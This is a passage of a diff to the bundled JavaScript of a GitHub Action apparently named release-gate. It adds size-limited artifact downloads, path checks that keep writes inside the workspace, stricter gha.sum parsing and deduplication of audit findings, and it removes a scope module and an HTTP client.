-        const data = method === 0 ? Buffer.from(raw) : method === 8 ? (0,external_node_zlib_.inflateRawSync)(raw, { maxOutputLength: usize + 1 }) : undefined;
-        if (!data)
-            throw new Error(`the archive entry '${name}' uses compression method ${method}`);
-        if (data.length !== usize)
-            throw new Error(`the archive entry '${name}' is not the size it claims`);
-        out.push({ name, data });
+    finally {
+        await fh.close();
     }
-    return out;
+    return written;
 }
 
 ;// CONCATENATED MODULE: ./src/attest/index.ts
@@ -35903,33 +40462,52 @@ function readZip(buf) {
 
 
 
+
 const SLSA_PROVENANCE_V1 = 'https://slsa.dev/provenance/v1';
+/** Default limit of an artifact download: 2 GiB. */
+const ARTIFACT_MAX_BYTES = 2 * 1024 * 1024 * 1024;
 async function sha256(file) {
     const h = (0,external_node_crypto_.createHash)('sha256');
     for await (const chunk of (0,external_node_fs_namespaceObject.createReadStream)(file))
         h.update(chunk);
     return h.digest('hex');
 }
-/** Download an artifact of this run through the REST API and unpack it under `dest`. */
-async function downloadArtifact(api, repository, runId, name, dest) {
-    const list = await api.getJson(`/repos/${repository}/actions/runs/${runId}/artifacts?name=${encodeURIComponent(name)}&per_page=100`);
-    const art = list?.data.artifacts?.find((a) => a.name === name && !a.expired);
+/**
+ * Download an artifact of this run through the REST API and unpack it under `dest`. The list
+ * is read page by page; the ZIP streams to a temporary file (never into memory) with its own
+ * size limit, and is unpacked from there.
+ */
+async function downloadArtifact(api, repository, runId, name, dest, maxBytes = ARTIFACT_MAX_BYTES, tmp = process.env.RUNNER_TEMP || (0,external_node_os_namespaceObject.tmpdir)()) {
+    const list = await api.getPaged(`/repos/${repository}/actions/runs/${runId}/artifacts?name=${encodeURIComponent(name)}&per_page=100`, { key: 'artifacts' });
+    const found = (list?.items ?? []).filter((a) => a.name === name && !a.expired).sort((a, b) => String(b.created_at ?? '').localeCompare(String(a.created_at ?? '')) || b.id - a.id);
+    const art = found[0];
     if (!art)
-        throw new Error(`this run has no artifact named '${name}'`);
-    const zip = await api.request(`/repos/${repository}/actions/artifacts/${art.id}/zip`, 'application/vnd.github+json');
-    if (zip.status !== 200)
-        throw new Error(`downloading artifact '${name}' answered HTTP ${zip.status}`);
-    const root = (0,external_node_path_namespaceObject.resolve)(dest);
-    const written = [];
-    for (const e of readZip(zip.body)) {
-        const out = (0,external_node_path_namespaceObject.resolve)(root, e.name);
-        if (!out.startsWith(root))
-            throw new Error(`artifact entry '${e.name}' would leave ${dest}`);
-        await (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.dirname)(out), { recursive: true });
-        await (0,promises_namespaceObject.writeFile)(out, e.data);
-        written.push(e.name);
+        throw new Error(`this run has no artifact named '${name}'${list && !list.complete ? ` among the first ${list.items.length} artifacts listed` : ''}`);
+    if (typeof art.size_in_bytes === 'number' && art.size_in_bytes > maxBytes)
+        throw new Error(`artifact '${name}' is ${art.size_in_bytes} bytes, over the ${maxBytes}-byte limit (raise artifact-max-size)`);
+    const dir = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)(tmp, 'release-gate-artifact-'));
+    try {
+        const zip = (0,external_node_path_namespaceObject.join)(dir, 'artifact.zip');
+        await api.download(`/repos/${repository}/actions/artifacts/${art.id}/zip`, zip, maxBytes);
+        return await extractZip(zip, dest, { ...ZIP_LIMITS, totalBytes: Math.max(ZIP_LIMITS.totalBytes, 2 * maxBytes) });
     }
-    return written;
+    finally {
+        await (0,promises_namespaceObject.rm)(dir, { recursive: true, force: true });
+    }
+}
+/** Does `target` (or, when it does not exist yet, its nearest existing parent) resolve inside the workspace? */
+async function insideWorkspace(workspace, target) {
+    const root = await (0,promises_namespaceObject.realpath)(workspace).catch(() => workspace);
+    let p = target;
+    for (;;) {
+        const real = await (0,promises_namespaceObject.realpath)(p).catch(() => undefined);
+        if (real !== undefined)
+            return real === root || real.startsWith(root.endsWith(external_node_path_namespaceObject.sep) ? root : root + external_node_path_namespaceObject.sep);
+        const up = (0,external_node_path_namespaceObject.dirname)(p);
+        if (up === p)
+            return false;
+        p = up;
+    }
 }
 async function runAttest(s, ctx, deps = {}) {
     const exec = deps.exec ?? gh_exec;
@@ -35943,7 +40521,10 @@ async function runAttest(s, ctx, deps = {}) {
             return r;
         }
         try {
-            await downloadArtifact(deps.api, ctx.repository, ctx.runId, s.artifactName, (0,external_node_path_namespaceObject.join)(ctx.workspace, s.artifactPath));
+            const target = (0,external_node_path_namespaceObject.join)(ctx.workspace, s.artifactPath);
+            if (!(await insideWorkspace(ctx.workspace, target)))
+                throw new Error(`'${s.artifactPath}' leads outside the workspace through a symbolic link; the gate writes only inside it`);
+            await downloadArtifact(deps.api, ctx.repository, ctx.runId, s.artifactName, target, s.artifactMaxBytes ?? ARTIFACT_MAX_BYTES);
         }
         catch (e) {
             fail(`download artifact '${s.artifactName}'`, e instanceof Error ? e.message : String(e), 'Upload the artifact in a job this one `needs:`, and give this job `actions: read`.');
@@ -36048,12 +40629,14 @@ const INPUTS = {
     subjectPath: 'subject-path',
     artifactName: 'artifact-name',
     artifactPath: 'artifact-path',
+    artifactMaxSize: 'artifact-max-size',
     signerWorkflow: 'signer-workflow',
     predicateType: 'predicate-type',
     attestations: 'attestations',
     bundle: 'bundle',
     customTrustedRoot: 'custom-trusted-root',
     requireLock: 'require-lock',
+    summary: 'summary',
 };
 const DEFAULT_CONFIG_PATH = '.github/release-gate.yml';
 /** YAML 1.2 core booleans, as the runner documents for boolean inputs. */
@@ -36066,6 +40649,18 @@ function parseBoolean(name, value, dflt) {
     if (['false', 'False', 'FALSE'].includes(v))
         return false;
     throw new Error(`Input '${name}' is '${v}'; expected true or false`);
+}
+/** A size such as `2GiB`, `500 MB`, `1048576` (bytes); binary and decimal units. */
+function parseSize(name, value) {
+    const v = value.trim();
+    if (v === '')
+        return undefined;
+    const m = /^(\d+(?:\.\d+)?)\s*(B|KB|KiB|MB|MiB|GB|GiB|TB|TiB)?$/i.exec(v);
+    const units = { b: 1, kb: 1e3, kib: 1024, mb: 1e6, mib: 1024 ** 2, gb: 1e9, gib: 1024 ** 3, tb: 1e12, tib: 1024 ** 4 };
+    const n = m ? Math.floor(Number(m[1]) * units[(m[2] ?? 'b').toLowerCase()]) : NaN;
+    if (!Number.isSafeInteger(n) || n <= 0)
+        throw new Error(`Input '${name}' is '${v}'; expected a size such as 2GiB, 500MB or a number of bytes`);
+    return n;
 }
 function parseList(value) {
     return value
@@ -36106,13 +40701,17 @@ function readSettings(src) {
     if (signer && !/^([\w.-]+\/)?[\w.-]+\/[\w.-]+\/.+\.ya?ml(@.+)?$/.test(signer)) {
         throw new Error(`Input 'signer-workflow' is '${signer}'; expected owner/repo/.github/workflows/release.yml`);
     }
+    const summary = src.get(INPUTS.summary).trim() || 'full';
+    if (summary !== 'full' && summary !== 'failures' && summary !== 'off')
+        throw new Error(`Input 'summary' is '${summary}'; expected full, failures or off`);
     const opt = (k) => src.get(k).trim() || undefined;
     return {
         attest: {
             mode,
             subjectPath,
             ...(artifactName ? { artifactName } : {}),
-            artifactPath: opt(INPUTS.artifactPath) ?? 'dist',
+            artifactPath: workspacePath(INPUTS.artifactPath, opt(INPUTS.artifactPath) ?? 'dist'),
+            ...(parseSize(INPUTS.artifactMaxSize, src.get(INPUTS.artifactMaxSize)) ? { artifactMaxBytes: parseSize(INPUTS.artifactMaxSize, src.get(INPUTS.artifactMaxSize)) } : {}),
             ...(signer ? { signerWorkflow: signer } : {}),
             predicateType: opt(INPUTS.predicateType) ?? SLSA_PROVENANCE_V1,
             ...(opt(INPUTS.bundle) ? { bundle: opt(INPUTS.bundle) } : {}),
@@ -36120,22 +40719,64 @@ function readSettings(src) {
         },
         token: src.get(INPUTS.token).trim(),
         failOn,
-        configPath: src.get(INPUTS.config).trim() || DEFAULT_CONFIG_PATH,
+        configPath: repoPath(INPUTS.config, src.get(INPUTS.config).trim() || DEFAULT_CONFIG_PATH),
         disabled,
         allow,
         offline: parseBoolean(INPUTS.offline, src.get(INPUTS.offline), false),
         requireLock: parseBoolean(INPUTS.requireLock, src.get(INPUTS.requireLock), false),
+        summary,
     };
+}
+/**
+ * A path inside the repository, as an input gives it: relative, `/`-separated, with no `..`
+ * segment (it must never reach another API endpoint, another repository, or outside the
+ * checkout). `.` and empty segments are dropped. Throws with what is wrong.
+ */
+function repoPath(name, value) {
+    const v = value.trim();
+    const bad = (why) => new Error(`Input '${name}' is '${v}'; ${why}: give a path relative to the repository root, like .github/release-gate.yml`);
+    if (v.startsWith('/') || /^[A-Za-z]:/.test(v) || v.startsWith('~'))
+        throw bad('it is absolute');
+    if (v.includes('\\'))
+        throw bad('it contains a backslash');
+    if (/[\u0000-\u001f\u007f?#]/.test(v))
+        throw bad('it contains a control character, `?` or `#`');
+    const segs = v.split('/').filter((s) => s !== '' && s !== '.');
+    if (segs.some((s) => s === '..' || /^(?:%2e|\.){2}$/i.test(s) || /%2f|%5c/i.test(s)))
+        throw bad('it leaves the repository (`..`)');
+    if (segs.length === 0)
+        throw bad('it is empty');
+    return segs.join('/');
+}
+/** A path inside the workspace for files the gate writes: a repository path that does not name the runner's `_actions`. */
+function workspacePath(name, value) {
+    const p = repoPath(name, value);
+    if (p.split('/').some((s) => s === '_actions' || s === '.git'))
+        throw new Error(`Input '${name}' is '${value}'; it must not write into \`_actions\` or \`.git\``);
+    return p;
 }
 
 ;// CONCATENATED MODULE: ./src/context/runner.ts
 /** What the runner tells a step about the run, read once from the environment. */
+
 /** `octo/demo/.github/workflows/release.yml@refs/tags/v1` -> parts. */
 function parseWorkflowRef(raw) {
     const m = /^([^/]+)\/([^/]+)\/(.+?)@(.+)$/.exec(raw);
     if (!m)
         return undefined;
     return { owner: m[1], repo: m[2], path: m[3], ref: m[4] };
+}
+/** `workflow_run.event` from the event payload file; undefined when it cannot be read. */
+function upstreamEventOf(path) {
+    if (!path)
+        return undefined;
+    try {
+        const ev = JSON.parse((0,external_node_fs_namespaceObject.readFileSync)(path, 'utf8')).workflow_run?.event;
+        return typeof ev === 'string' ? ev : undefined;
+    }
+    catch {
+        return undefined;
+    }
 }
 function readRunContext(env = process.env) {
     const v = (k) => (env[k] && env[k].trim() !== '' ? env[k].trim() : undefined);
@@ -36157,6 +40798,8 @@ function readRunContext(env = process.env) {
     set('sha', v('GITHUB_SHA'));
     set('ref', v('GITHUB_REF'));
     set('eventName', v('GITHUB_EVENT_NAME'));
+    if (ctx.eventName === 'workflow_run')
+        set('upstreamEvent', upstreamEventOf(v('GITHUB_EVENT_PATH')));
     set('workspace', v('GITHUB_WORKSPACE'));
     set('runnerTemp', v('RUNNER_TEMP'));
     set('runnerEnvironment', v('RUNNER_ENVIRONMENT'));
@@ -36257,8 +40900,18 @@ function parseConfig(text, file) {
                 if (conf.kind !== 'map')
                     fail(file, conf, `rules.${id}.config must be a mapping`);
                 const o = {};
-                for (const cp of conf.pairs)
-                    o[String(cp.key.value)] = toJS(cp.value);
+                const known = ruleById(id)?.options ?? {};
+                for (const cp of conf.pairs) {
+                    const key = String(cp.key.value);
+                    if (!(key in known)) {
+                        const keys = Object.keys(known);
+                        fail(file, cp.key, `rule '${id}' has no option '${key}'${keys.length ? `; its options: ${keys.join(', ')}` : '; it takes no options'}`);
+                    }
+                    o[key] = toJS(cp.value);
+                }
+                const err = ruleById(id)?.validate?.(o);
+                if (err)
+                    fail(file, conf, `rules.${id}.config: ${err}`);
                 rc.config = o;
             }
             cfg.rules[id] = rc;
@@ -36322,10 +40975,19 @@ async function loadLocal(wf, reader) {
             const u = job.uses?.parsed;
             if (u?.kind === 'local' && u.reusableWorkflow)
                 wants.push({ paths: [u.path], key: u.path, what: job.uses.value });
-            for (const s of job.steps) {
+            for (const [i, s] of job.steps.entries()) {
                 const su = s.uses?.parsed;
                 if (su?.kind === 'local' && !su.reusableWorkflow && su.path !== '') {
-                    wants.push({ paths: [`${su.path}/action.yml`, `${su.path}/action.yaml`], key: su.path, what: s.uses.value });
+                    const paths = [`${su.path}/action.yml`, `${su.path}/action.yaml`];
+                    // `uses: ./arrow/.github/actions/x` after a checkout into `arrow/`: the action is at
+                    // `.github/actions/x` of the repository that checkout fetched
+                    const co = checkoutUnder(job.steps.slice(0, i), su.path);
+                    if (co?.repository)
+                        wants.push({ paths, key: su.path, what: s.uses.value, other: co.repository });
+                    else if (co)
+                        wants.push({ paths, key: su.path, what: s.uses.value, from: paths.map((p) => p.slice(co.path.length).replace(/^\//, '')) });
+                    else
+                        wants.push({ paths, key: su.path, what: s.uses.value });
                 }
             }
         }
@@ -36337,11 +40999,15 @@ async function loadLocal(wf, reader) {
                 skipped.push({ check: `read ${w.what}`, reason: `beyond the limit of ${MAX_COMPOSITE_DEPTH} nested levels or ${MAX_LOCAL_FILES} local files` });
                 continue;
             }
+            if (w.other) {
+                skipped.push({ check: `read ${w.what}`, reason: `it is an action of ${w.other}, checked out by an earlier step: audit that repository for what it runs` });
+                continue;
+            }
             let found = false;
-            for (const p of w.paths) {
+            for (const [n, p] of w.paths.entries()) {
                 let text;
                 try {
-                    text = await reader.read(p);
+                    text = await reader.read(w.from?.[n] ?? p);
                 }
                 catch (e) {
                     failures.push({ check: `read ${w.what}`, reason: local_err(e), fix: 'Re-run the job; give it `contents: read`.', file: cur.file });
@@ -36375,20 +41041,40 @@ async function loadLocal(wf, reader) {
     }
     const related = [];
     if (wf.triggers.some((t) => t.event === 'workflow_run')) {
+        // every workflow of the repository: several may carry the name workflow_run follows, and
+        // the one that matters may sort anywhere. Read a few at a time; a file that cannot be read
+        // is said, not skipped silently.
         try {
-            for (const p of (await reader.listWorkflows()).slice(0, 30)) {
-                if (reader.display(p) === wf.file)
-                    continue;
-                const text = await reader.read(p).catch(() => undefined);
+            const paths = (await reader.listWorkflows()).filter((p) => reader.display(p) !== wf.file);
+            if (paths.length > MAX_RELATED)
+                skipped.push({ check: 'read the workflows that workflow_run follows', reason: `the repository has ${paths.length} workflows; the first ${MAX_RELATED} were read` });
+            const todo = paths.slice(0, MAX_RELATED);
+            const texts = new Array(todo.length);
+            let next = 0;
+            const unread = [];
+            const worker = async () => {
+                while (next < todo.length) {
+                    const i = next++;
+                    texts[i] = await reader.read(todo[i]).catch(() => {
+                        unread.push(reader.display(todo[i]));
+                        return undefined;
+                    });
+                }
+            };
+            await Promise.all(Array.from({ length: Math.min(8, todo.length) }, worker));
+            todo.forEach((p, i) => {
+                const text = texts[i];
                 if (text === undefined)
-                    continue;
+                    return;
                 try {
                     related.push(parseWorkflow(text, reader.display(p)));
                 }
                 catch {
                     // an unreadable sibling only matters if it is the upstream, which then stays unknown
                 }
-            }
+            });
+            if (unread.length)
+                skipped.push({ check: 'read the workflows that workflow_run follows', reason: `could not read ${unread.sort().join(', ')}` });
         }
         catch (e) {
             skipped.push({ check: 'read the workflows that workflow_run follows', reason: local_err(e) });
@@ -36396,6 +41082,28 @@ async function loadLocal(wf, reader) {
     }
     return { local, related, failures, skipped };
 }
+/**
+ * The earlier `actions/checkout` step whose literal `path:` holds a local action's path, with
+ * the repository it fetched when that is another one (undefined for this repository).
+ */
+function checkoutUnder(before, actionPath) {
+    for (const s of [...before].reverse()) {
+        const u = s.uses?.parsed;
+        if (!u || u.kind !== 'repo' || `${u.owner}/${u.repo}`.toLowerCase() !== 'actions/checkout')
+            continue;
+        const pathNode = s.with.get('path');
+        const path = pathNode?.kind === 'scalar' && pathNode.value !== null ? String(pathNode.value).replace(/^\.?\/+/, '').replace(/\/+$/, '') : '';
+        if (!path || path.includes('${{') || !(actionPath === path || actionPath.startsWith(`${path}/`)))
+            continue;
+        const repoNode = s.with.get('repository');
+        const repository = repoNode?.kind === 'scalar' && repoNode.value !== null ? String(repoNode.value) : undefined;
+        // `repository: ${{ github.repository }}` is this repository
+        return repository && !/^\$\{\{\s*github\.repository\s*\}\}$/i.test(repository) ? { path, repository } : { path };
+    }
+    return undefined;
+}
+/** Workflows read to find what a `workflow_run` trigger follows (GitHub has no limit; this bounds the requests). */
+const MAX_RELATED = 1000;
 /** Does the workflow use anything local that must be read before the audit? */
 function usesLocal(wf) {
     return (wf.jobs.some((j) => j.uses?.parsed.kind === 'local' || j.steps.some((s) => s.uses?.parsed.kind === 'local' && s.uses.parsed.path !== '')) ||
@@ -36657,64 +41365,24 @@ function allowSuppression(f, allow) {
     return { s: { by: 'allow', reason: entry.reason, pattern: entry.pattern }, entry };
 }
 
-;// CONCATENATED MODULE: ./src/workflow/scope.ts
-/**
- * Which jobs are audited: the job running the gate (or, from the CLI, each publishing job)
- * and every job it needs, transitively — they build what is published.
- */
-
-function needsClosure(wf, roots) {
-    const byId = new Map(wf.jobs.map((j) => [j.id, j]));
-    const seen = new Set();
-    const stack = roots.map((r) => r.id);
-    while (stack.length) {
-        const id = stack.pop();
-        if (seen.has(id))
-            continue;
-        seen.add(id);
-        for (const n of byId.get(id)?.needs ?? [])
-            if (byId.has(n.value))
-                stack.push(n.value);
-    }
-    return wf.jobs.filter((j) => seen.has(j.id));
-}
-/**
- * @param jobId the job to guard; when absent, the publishing jobs, and when none publish, every job.
- * @throws Error when `jobId` is not a job of the workflow.
- */
-function selectScope(wf, jobId) {
-    if (wf.kind === 'action')
-        return { targets: wf.jobs, jobs: wf.jobs, reason: 'action file: its composite steps', mode: 'all' };
-    if (jobId) {
-        const job = wf.jobs.find((j) => j.id === jobId);
-        if (!job) {
-            const known = wf.jobs.map((j) => j.id).join(', ') || 'none';
-            throw new Error(`job '${jobId}' is not in ${wf.file} (jobs: ${known})`);
-        }
-        return { targets: [job], jobs: needsClosure(wf, [job]), reason: `job '${jobId}' and the jobs it needs`, mode: 'gate' };
-    }
-    const publishing = wf.jobs.filter((j) => isPublishingJob(wf, j));
-    if (publishing.length) {
-        return {
-            targets: publishing,
-            jobs: needsClosure(wf, publishing),
-            mode: 'publishing',
-            reason: publishing.length > 1
-                ? `publishing jobs ${publishing.map((j) => `'${j.id}'`).join(', ')} and the jobs they need`
-                : `publishing job '${publishing[0].id}' and the jobs it needs`,
-        };
-    }
-    return { targets: wf.jobs, jobs: wf.jobs, reason: 'no job publishes: every job', mode: 'all' };
-}
-
 ;// CONCATENATED MODULE: ./src/resolve/ghasum.ts
 /**
- * ghasum's `.github/workflows/gha.sum`: a header block (`version 1`), a blank line, then one
- * `owner/repo@ref <checksum>` line per action, sorted, with a final newline. Checksums are Go's
- * dirhash "h1" over the action's files.
+ * ghasum's `.github/workflows/gha.sum`, read and written as ghasum's own `internal/sumfile`
+ * package does (chains-project/ghasum): header lines `key value` up to the first empty line
+ * (`version` must be there and parse as an integer; only 1 is known), then one
+ * `owner/repo@ref <checksum>` line per action, a final newline; `\r\n` line ends when the text
+ * holds any `\r`. Entries are written sorted as whole lines (Go's sort.Strings). Checksums are
+ * bare base64 of Go's dirhash Hash1 — no `h1:` prefix (see dirhash.ts).
+ *
+ * Where ghasum rejects a file, so does this, and it names the line (ghasum's own messages
+ * omit it for some errors, and count entry lines as if there were one header).
  */
 
 const GHA_SUM_PATH = '.github/workflows/gha.sum';
+/** Go's strconv.Atoi on a header value: optional sign, decimal digits. */
+function atoi(v) {
+    return /^[+-]?\d+$/.test(v) ? Number(v) : undefined;
+}
 function parseGhaSum(text, file = GHA_SUM_PATH) {
     const lines = text.includes('\r') ? text.split('\r\n') : text.split('\n');
     const headers = new Map();
@@ -36722,36 +41390,70 @@ function parseGhaSum(text, file = GHA_SUM_PATH) {
     for (; i < lines.length && lines[i] !== ''; i++) {
         const sp = lines[i].indexOf(' ');
         if (sp < 0)
-            throw new InputError('invalid header', file, i + 1);
+            throw new InputError(`sumfile headers are invalid: invalid header on line ${i + 1}`, file, i + 1);
         const k = lines[i].slice(0, sp);
         if (headers.has(k))
-            throw new InputError(`duplicate header '${k}'`, file, i + 1);
+            throw new InputError(`sumfile headers are invalid: duplicate header '${k}'`, file, i + 1);
         headers.set(k, lines[i].slice(sp + 1));
     }
     const version = headers.get('version');
     if (version === undefined)
-        throw new InputError('no `version` header', file, 1);
-    if (version !== '1')
-        throw new InputError(`gha.sum version ${version} is not supported (release-gate reads version 1)`, file, 1);
+        throw new InputError('version error: no `version` header', file, 1);
+    const v = atoi(version);
+    if (v === undefined)
+        throw new InputError(`version error: version '${version}' is not a number`, file, [...headers.keys()].indexOf('version') + 1);
+    if (v !== 1)
+        throw new InputError(`version error: unknown version ${version} (ghasum and release-gate know version 1)`, file, [...headers.keys()].indexOf('version') + 1);
     if (lines[lines.length - 1] !== '')
-        throw new InputError('missing final newline', file, lines.length);
+        throw new InputError('syntax error: missing final newline', file, lines.length);
     const entries = new Map();
+    // ghasum finds duplicates by the ID parts joined without a separator
+    const joined = new Map();
     for (let n = i + 1; n < lines.length - 1; n++) {
         const l = lines[n];
+        const line = n + 1;
         const sp = l.indexOf(' ');
-        if (sp <= 0 || sp >= l.length - 1 || /[\r\n ]/.test(l.slice(sp + 1)))
-            throw new InputError('expected `owner/repo@ref checksum`', file, n + 1);
+        if (sp <= 0 || sp >= l.length - 1)
+            throw new InputError('syntax error: expected `owner/repo@ref checksum`', file, line);
         const id = l.slice(0, sp);
-        if (!/^[^@\s]+@[^@\s]+$/.test(id) && !/^[^@\s]+(@[^@\s]+)+$/.test(id))
-            throw new InputError(`'${id}' is not owner/repo@ref`, file, n + 1);
-        if (entries.has(id))
-            throw new InputError(`duplicate entry '${id}'`, file, n + 1);
-        entries.set(id, { sum: l.slice(sp + 1), line: n + 1 });
+        const sum = l.slice(sp + 1);
+        const parts = id.split('@');
+        if (/[\r\n ]/.test(sum))
+            throw new InputError('syntax error: the checksum holds a space or line break', file, line);
+        if (/[\r\n]/.test(id))
+            throw new InputError('syntax error: the ID holds a line break', file, line);
+        if (parts.some((p) => p === ''))
+            throw new InputError(`checksums are corrupted: missing id or checksum in '${id}'`, file, line);
+        const j = parts.join('');
+        if (joined.has(j))
+            throw new InputError(`checksums are corrupted: duplicate entry '${id}' (first on line ${joined.get(j)})`, file, line);
+        joined.set(j, line);
+        // ghasum reads entries as ID[0]@ID[1]: one part crashes its verify, a third part is silently dropped
+        if (parts.length !== 2)
+            throw new InputError(`'${id}' is not owner/repo@ref, the only kind of entry ghasum writes`, file, line);
+        if (/^h1:/.test(sum)) {
+            throw new InputError(`the checksum of '${id}' starts with 'h1:': ghasum writes bare base64 (dirhash h1 without the prefix), and would report it as a mismatch`, file, line);
+        }
+        entries.set(id, { sum, line });
     }
     return { file, entries };
 }
+/**
+ * gha.sum text as ghasum writes it: `version 1`, a blank line, then `id checksum\n` lines sorted
+ * as strings. Throws on what ghasum's encoder refuses (a space or line break in a checksum, `@`
+ * or a line break in the repository or ref, an empty part).
+ */
 function encodeGhaSum(entries) {
-    const lines = [...entries].map(([id, sum]) => `${id} ${sum}\n`).sort();
+    const lines = [];
+    for (const [id, sum] of entries) {
+        const at = id.lastIndexOf('@');
+        const [repo, ref] = [id.slice(0, at), id.slice(at + 1)];
+        if (at <= 0 || !repo || !ref || /[\r\n @]/.test(repo) || /[\r\n @]/.test(ref) || !sum || /[\r\n ]/.test(sum))
+            throw new Error(`cannot write '${id} ${sum}' to gha.sum`);
+        lines.push(`${id} ${sum}\n`);
+    }
+    // Go's sort.Strings compares bytes
+    lines.sort((a, b) => Buffer.compare(Buffer.from(a, 'utf8'), Buffer.from(b, 'utf8')));
     return `version 1\n\n${lines.join('')}`;
 }
 
@@ -36865,6 +41567,7 @@ function runRule(rule, t, scope, failures, opts) {
             workflow: wf,
             scope,
             options: opts.config.rules[rule.id]?.config ?? {},
+            ...(opts.githubParser ? { githubParser: opts.githubParser } : {}),
             failures,
             local: t.local ?? new Map(),
             related: t.related ?? [],
@@ -36896,7 +41599,7 @@ function auditTarget(t, opts) {
     const wf = t.workflow;
     let scope;
     try {
-        scope = selectScope(wf, t.jobId);
+        scope = selectScope(wf, t.jobId, t.local);
     }
     catch (e) {
         failures.push({
@@ -36939,9 +41642,33 @@ function auditTarget(t, opts) {
             targets: scope.targets.map((j) => j.id),
             scope: scope.reason,
         },
-        findings: applySuppressions(wf, t.local ?? new Map(), findings, opts),
+        findings: applySuppressions(wf, t.local ?? new Map(), onceEach(wf, findings), opts),
         skipped,
     };
+}
+/**
+ * A finding inside a local composite action or called workflow, reached from several jobs,
+ * is one finding: kept once, at its line, naming every job it was reached from.
+ */
+function onceEach(wf, findings) {
+    const seen = new Map();
+    const out = [];
+    for (const f of findings) {
+        if (f.file === wf.file) {
+            out.push(f);
+            continue;
+        }
+        const key = `${f.rule}\0${f.file}\0${f.line}\0${f.column}\0${f.severity}`;
+        const first = seen.get(key);
+        if (!first) {
+            seen.set(key, f);
+            out.push(f);
+        }
+        else if (f.job !== undefined && f.job !== first.job && !first.message.includes(`\`${f.job}\``)) {
+            first.message += first.message.includes(' (also reached from job ') ? '' : ` (also reached from job \`${f.job}\`)`;
+        }
+    }
+    return out;
 }
 function applySuppressions(wf, local, findings, opts) {
     // Comments are matched in the file the finding points at: the workflow or a local file.
@@ -37013,7 +41740,18 @@ function buildReport(parts, skippedIn, opts) {
         seen.add(k);
         skipped.push(s);
     }
-    const findings = parts.flatMap((p) => p.findings);
+    // a file audited on its own and again through a workflow that calls it (a reusable workflow,
+    // a composite action) says the same thing twice: once is enough
+    const once = new Set();
+    const findings = parts
+        .flatMap((p) => p.findings)
+        .filter((f) => {
+        const k = `${f.rule}\0${f.file}\0${f.line}\0${f.column}\0${f.severity}\0${f.job}\0${f.message}`;
+        if (once.has(k))
+            return false;
+        once.add(k);
+        return true;
+    });
     for (const f of findings)
         f.blocking = isBlocking(f, opts.failOn);
     findings.sort(compareFindings);
@@ -37049,274 +41787,6 @@ function attestOffReason(scope, gateRepository) {
             return `verified inside job '${job.id}' at run time: its release-gate step sets \`${input}\``;
     }
     return 'attestations: off (set `subject-path` or `artifact-name` to verify what is published)';
-}
-
-// EXTERNAL MODULE: external "node:http"
-var external_node_http_ = __nccwpck_require__(7067);
-var external_node_http_default = /*#__PURE__*/__nccwpck_require__.n(external_node_http_);
-;// CONCATENATED MODULE: external "node:https"
-const external_node_https_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:https");
-var external_node_https_default = /*#__PURE__*/__nccwpck_require__.n(external_node_https_namespaceObject);
-;// CONCATENATED MODULE: ./src/resolve/http.ts
-/**
- * One HTTP(S) GET over node:http/https with keep-alive: no lazy-loaded fetch stack on the
- * first request, connections reused across the run. Redirects are returned, not followed (the
- * caller decides where the token may go); bodies are capped while they stream in.
- */
-
-
-class BodyTooLarge extends Error {
-}
-class Timeout extends Error {
-}
-const agents = {
-    'http:': new (external_node_http_default()).Agent({ keepAlive: true, maxSockets: 64 }),
-    'https:': new (external_node_https_default()).Agent({ keepAlive: true, maxSockets: 64 }),
-};
-function http_get(url, headers, timeoutMs, maxBytes) {
-    const u = new URL(url);
-    const mod = u.protocol === 'https:' ? (external_node_https_default()) : u.protocol === 'http:' ? (external_node_http_default()) : undefined;
-    if (!mod)
-        return Promise.reject(new Error(`unsupported protocol ${u.protocol}`));
-    return new Promise((resolve, reject) => {
-        let done = false;
-        const finish = (f) => {
-            if (done)
-                return;
-            done = true;
-            clearTimeout(timer);
-            f();
-        };
-        const req = mod.get(u, { headers, agent: agents[u.protocol] }, (res) => {
-            const status = res.statusCode ?? 0;
-            const h = { get: (n) => { const v = res.headers[n.toLowerCase()]; return v === undefined ? null : Array.isArray(v) ? v.join(', ') : String(v); } };
-            if (status >= 300 && status < 400) {
-                res.resume();
-                finish(() => resolve({ status, headers: h, body: Buffer.alloc(0) }));
-                return;
-            }
-            const len = Number(res.headers['content-length'] ?? '0');
-            if (len > maxBytes) {
-                res.destroy();
-                finish(() => reject(new BodyTooLarge(`${len} bytes`)));
-                return;
-            }
-            const chunks = [];
-            let total = 0;
-            res.on('data', (c) => {
-                total += c.length;
-                if (total > maxBytes) {
-                    res.destroy();
-                    finish(() => reject(new BodyTooLarge(`over ${maxBytes} bytes`)));
-                    return;
-                }
-                chunks.push(c);
-            });
-            res.on('end', () => finish(() => resolve({ status, headers: h, body: Buffer.concat(chunks) })));
-            res.on('aborted', () => finish(() => reject(new Error('the connection closed before the body was complete'))));
-            res.on('error', (e) => finish(() => reject(e)));
-            res.on('close', () => {
-                if (!res.complete)
-                    finish(() => reject(new Error('the connection closed before the body was complete')));
-            });
-        });
-        const timer = setTimeout(() => {
-            req.destroy();
-            finish(() => reject(new Timeout(`no answer within ${timeoutMs} ms`)));
-        }, timeoutMs);
-        req.on('error', (e) => finish(() => reject(e)));
-    });
-}
-
-;// CONCATENATED MODULE: ./src/resolve/github.ts
-/**
- * A small GitHub REST client: timeouts on every request, bounded retries with backoff on
- * 5xx/429 and rate limits (within a total time budget), redirects followed without the token
- * when they leave the API's host, capped response sizes, and a request count for the report.
- * The token never appears in an error message.
- */
-
-
-class ApiError extends Error {
-    status;
-    url;
-    transient;
-    constructor(message, status, url, 
-    /** True when trying again later may succeed (5xx, rate limit, network). */
-    transient) {
-        super(message);
-        this.status = status;
-        this.url = url;
-        this.transient = transient;
-        this.name = 'ApiError';
-    }
-}
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-class GitHubApi {
-    baseUrl;
-    token;
-    timeoutMs;
-    retries;
-    backoffMs;
-    maxBytes;
-    deadline;
-    userAgent;
-    /** Requests sent, retries and redirects included. */
-    requests = 0;
-    constructor(o) {
-        this.baseUrl = o.baseUrl.replace(/\/+$/, '');
-        if (o.token)
-            this.token = o.token;
-        this.timeoutMs = o.timeoutMs ?? 15_000;
-        this.retries = o.retries ?? 3;
-        this.backoffMs = o.backoffMs ?? 300;
-        this.maxBytes = o.maxBytes ?? 16 * 1024 * 1024;
-        this.deadline = Date.now() + (o.budgetMs ?? 120_000);
-        this.userAgent = o.userAgent ?? 'release-gate';
-    }
